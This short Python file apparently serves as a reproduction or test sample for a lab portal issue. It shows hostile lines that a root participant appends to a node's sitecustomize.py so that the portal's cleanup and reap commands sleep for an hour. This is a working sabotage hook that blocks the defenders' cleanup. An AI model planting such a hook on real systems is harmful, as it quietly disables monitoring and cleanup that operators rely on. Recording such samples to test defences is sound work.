# Hostile lines a root participant appends to the node's /etc/python3.11/sitecustomize.py (issue
# 26): every `python3 -c` that the portal runs to clean up after a terminal (argv HOPLAB_TERMINAL
# ...) or that a reap runs to scan the node (argv reap, reap-files or kill ...) sleeps an hour.
import sys
import time

if sys.argv[1:2] in (["HOPLAB_TERMINAL"], ["reap"], ["reap-files"], ["kill"]):
    time.sleep(3600)
